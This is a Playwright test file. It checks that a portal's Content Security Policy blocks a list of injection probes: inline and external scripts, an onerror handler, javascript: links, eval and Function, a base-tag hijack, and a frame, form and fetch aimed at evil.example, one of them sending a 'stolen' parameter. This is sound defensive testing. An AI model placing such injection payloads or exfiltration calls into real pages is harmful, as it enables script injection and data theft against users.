import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures.ts';

/** What an attacker who can write into a page would try, each in a page that is what it was before. */
const probes = {
  'a script in the page': () => {
    const script = document.createElement('script');
    script.append('globalThis.harmed = true');
    document.body.append(script);
  },
  'a script from elsewhere': () => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/harm.js';
    document.body.append(script);
  },
  'markup with a handler': () => {
    document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="harmed = true">');
  },
  'a handler in an attribute': () => {
    document.body.setAttribute('onclick', 'harmed = true');
    document.body.click();
  },
  'a link that is a script': () => {
    const link = document.createElement('a');
    link.href = ['javascript', 'harmed = true'].join(':');
    document.body.append(link);
    link.click();
  },
  'a text that is evaluated': () => Reflect.get(globalThis, 'eval')('globalThis.harmed = true'),
  'a function made of a text': () => Reflect.construct(Function, ['globalThis.harmed = true'])(),
  'a timer that is given a text': () =>
    Reflect.apply(setTimeout, null, ['globalThis.harmed = true', 0]),
  'a worker of a blob': () => {
    const blob = new Blob(['postMessage(1)'], { type: 'text/javascript' });
    new Worker(URL.createObjectURL(blob)).addEventListener('message', () => {
      Reflect.set(globalThis, 'harmed', true);
    });
  },
  'another base of all addresses': () => {
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
    Reflect.set(globalThis, 'harmed', document.baseURI.includes('evil') || undefined);
  },
  'a frame of another site': () => {
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
  },
  'a form to another site': () => {
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(form);
    form.requestSubmit();
  },
  'a call to another site': () => fetch('https://evil.example/?stolen=1').then(() => null),
} as const;

/** Tries one of them, and says which rule of the policy has stopped it; waits until one has. */
async function tryOn(page: Page, probe: () => unknown): Promise<string> {
  await page.addInitScript({ content: `globalThis.probe = ${probe.toString()}` });
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Sign in' })).toBeVisible();
  const directive = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
          resolve(effectiveDirective),
        );
        // What the debugger itself runs may evaluate texts; what the page runs later may not.
        setTimeout(() => void Reflect.get(globalThis, 'probe')(), 0);
      }),
  );
  expect(await page.evaluate(() => Reflect.get(globalThis, 'harmed'))).toBeUndefined();
  expect(new URL(page.url()).pathname).toBe('/');
  return directive;
}

test('what is written into a page can neither run nor reach another site (ASSURANCE A9) @wide', async ({
  context,
  simulator,
}) => {
  test.slow();
  expect(simulator.world).not.toBe('');
  const reached: string[] = [];
  await context.route('https://evil.example/**', (route) => {
    reached.push(route.request().url());
    return route.abort();
  });
  const stopped: Record<string, string> = {};
  for (const [name, probe] of Object.entries(probes)) {
    // The page of the fixtures would take each refusal for a fault of the portal.
    const page = await context.newPage();
    stopped[name] = await tryOn(page, probe);
    await page.close();
  }
  expect(reached).toEqual([]);
  const script = expect.stringMatching(/^(script-src|script-src-elem|require-trusted-types-for)$/);
  expect(stopped).toEqual({
    ...Object.fromEntries(Object.keys(probes).map((name) => [name, script])),
    'another base of all addresses': 'base-uri',
    'a frame of another site': 'frame-src',
    'a form to another site': 'form-action',
    'a call to another site': 'connect-src',
  });
});
